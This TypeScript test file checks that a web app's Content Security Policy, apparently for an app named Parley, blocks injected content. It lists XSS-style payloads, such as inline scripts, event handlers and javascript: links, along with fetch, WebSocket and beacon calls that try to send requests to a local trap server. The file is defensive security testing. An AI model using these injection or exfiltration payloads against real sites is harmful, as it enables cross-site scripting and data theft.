import type { Page } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { startTrap, type Trap } from './trap.ts';
import { type Attacked, startAttacked } from './window.ts';

// As if somebody had managed to put markup into the window's page: what its policy then still refuses.

// A browser and a host, on a machine that may have more to do.
vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

let attacked: Attacked;
let trap: Trap;
let parley: Page;

beforeAll(async () => {
  attacked = await startAttacked();
  trap = await startTrap();
  parley = await attacked.openParley();
});
afterAll(async () => {
  const caught = trap.requests;
  await attacked[Symbol.asyncDispose]();
  await trap[Symbol.asyncDispose]();
  if (caught.length > 0) throw new Error(`Something reached the trap: ${caught.join(', ')}`);
});

/** Puts markup into a page and resolves with the directive that this breaks. */
function violationOf(markup: string, page = parley): Promise<string> {
  return page.evaluate(
    (html) =>
      new Promise<string>((resolve) => {
        const place = document.createElement('div');
        addEventListener(
          'securitypolicyviolation',
          (event) => {
            place.remove();
            resolve(event.effectiveDirective);
          },
          { once: true },
        );
        place.append(document.createRange().createContextualFragment(html));
        document.body.append(place);
        place.querySelector<HTMLElement>('#click')?.click();
      }),
    markup.replaceAll('TRAP', trap.origin),
  );
}

describe('markup in the page', () => {
  it.each([
    ['an inline script', '<script>document.title = "taken"</script>', 'script-src-elem'],
    [
      'a script with a guessed nonce',
      '<script nonce="guess">document.title = "taken"</script>',
      'script-src-elem',
    ],
    ['a script from elsewhere', '<script src="TRAP/x.js"></script>', 'script-src-elem'],
    ['a script as data', '<script src="data:text/javascript,document.title=1"></script>', 'script-src-elem'],
    ['an event handler', '<img src="data:," onerror="document.title = 1">', 'script-src-attr'],
    ['a script address', '<a id="click" href="javascript:void(document.title = 1)">x</a>', 'script-src-elem'],
    ['a style', '<style>* { display: none }</style>', 'style-src-elem'],
    ['a style attribute', '<p style="display: none">', 'style-src-attr'],
    ['a style from elsewhere', '<link rel="stylesheet" href="TRAP/x.css">', 'style-src-elem'],
    ['an image from elsewhere', '<img src="TRAP/x.png">', 'img-src'],
    ['a video from elsewhere', '<video src="TRAP/x.mp4"></video>', 'media-src'],
    ['a frame from elsewhere', '<iframe src="TRAP/"></iframe>', 'frame-src'],
    ['a frame of data', '<iframe src="data:text/html,x"></iframe>', 'frame-src'],
    ['a plug-in', '<object data="TRAP/x"></object>', 'object-src'],
    ['another plug-in', '<embed src="TRAP/x">', 'object-src'],
    ['another base', '<base href="TRAP/">', 'base-uri'],
    ['a prefetch', '<link rel="prefetch" href="TRAP/x">', 'default-src'],
  ])('does nothing as %s', async (_, markup, directive) => {
    expect(await violationOf(markup)).toBe(directive);
    expect(await parley.title()).toBe('Parley');
  });

  it('sends nothing as a form', async () => {
    // Of its own: Chromium takes the page away with the form.
    const page = await attacked.openParley();
    const form = '<form action="TRAP/x"><button id="click">x</button></form>';
    expect(await violationOf(form, page)).toBe('form-action');
    await page.close();
  });
});

it('is framed by no page, not even by its own', async () => {
  const page = await attacked.openParley();
  const framed = page.waitForEvent('framenavigated', (frame) => frame !== page.mainFrame());
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = location.pathname;
    document.body.append(frame);
  });
  expect(await (await framed).content()).not.toContain('id="root"');
  await page.close();
});

describe('a script in the page that should not be there', () => {
  it('reaches no other server', async () => {
    const attempts = [
      `fetch('TRAP/fetch')`,
      `new Promise((_, reject) => { const socket = new EventSource('TRAP/events'); socket.onerror = reject; })`,
      `new Promise((_, reject) => { const socket = new WebSocket('TRAP/socket'.replace('http', 'ws')); socket.onerror = reject; })`,
      `new Promise((resolve, reject) => navigator.sendBeacon('TRAP/beacon') ? document.addEventListener('securitypolicyviolation', reject) : reject())`,
      `import('TRAP/module.js')`,
    ];
    for (const attempt of attempts)
      await expect(parley.evaluate(attempt.replaceAll('TRAP', trap.origin)), attempt).rejects.toThrow(
        /Failed|isTrusted|Event|Object|policy/i,
      );
  });

  it('makes no code of text', async () => {
    // In a turn of its own: what Playwright evaluates is exempt from the policy.
    const outcome = await parley.evaluate(
      () =>
        new Promise((resolve) => {
          addEventListener('securitypolicyviolation', ({ blockedURI }) => resolve(blockedURI), {
            once: true,
          });
          Reflect.apply(setTimeout, null, ['document.title = "taken"']);
        }),
    );
    expect(outcome).toBe('eval');
    expect(await parley.title()).toBe('Parley');
  });

  it.each(['text', 'a file of the page', 'data'])('starts no worker of %s', async (source) => {
    const outcome = await parley.evaluate(
      (kind) =>
        new Promise((resolve) => {
          addEventListener(
            'securitypolicyviolation',
            ({ effectiveDirective }) => resolve(effectiveDirective),
            { once: true },
          );
          const text = URL.createObjectURL(new Blob(['0']));
          const file = document.querySelector('script')?.src ?? '';
          const url = kind === 'text' ? text : kind === 'data' ? 'data:text/javascript,0' : file;
          new Worker(url).addEventListener('error', () => undefined);
        }),
      source,
    );
    expect(outcome).toBe('worker-src');
  });

  it('leaves no service worker behind', async () => {
    const registered = parley.evaluate(() => {
      const file = document.querySelector('script')?.src ?? '';
      return navigator.serviceWorker.register(file, { scope: '/assets/' });
    });
    await expect(registered).rejects.toThrow(/policy/i);
  });
});

describe('the page itself', () => {
  it('breaks its own policy nowhere, whatever is done in it', async () => {
    const broken: string[] = [];
    parley.on('console', (message) => {
      if (/content security policy/i.test(message.text())) broken.push(message.text());
    });
    await parley.getByRole('button', { name: 'New request', exact: true }).click();
    const request = parley.getByRole('region', { name: 'Request' });
    for (const tab of await request.getByRole('tab').all()) await tab.click();
    await request.getByRole('tab', { name: /^Body/ }).click();
    await request
      .getByRole('radiogroup', { name: 'Kind of body' })
      .getByText('JSON', { exact: true })
      .click();
    const editor = parley.getByRole('textbox', { name: 'Request body' });
    await editor.click();
    await parley.keyboard.type('{"a": 1,\n"b": [2,\n3]}');
    await parley.keyboard.press('ControlOrMeta+a');
    await parley.keyboard.type('[1,\n2,\n3]');
    for (const key of [
      'ArrowUp',
      'Home',
      'Backspace',
      'Shift+ArrowUp',
      'x',
      'Enter',
      'Shift+ArrowUp',
      'Delete',
      'ControlOrMeta+z',
    ])
      await parley.keyboard.press(key);
    await parley.keyboard.press('ControlOrMeta+a');
    await parley.keyboard.press('ControlOrMeta+x');
    await parley.keyboard.press('ControlOrMeta+v');
    await parley.keyboard.press('ControlOrMeta+f');
    await parley.keyboard.type('1');
    await parley.keyboard.press('Escape');
    // What Playwright's `fill` does: all at once, over what is there.
    await editor.fill('{\n"c": 4\n}');
    await editor.fill('[]');
    expect(await editor.textContent()).toBe('[]');
    expect(broken).toEqual([]);
  });
});
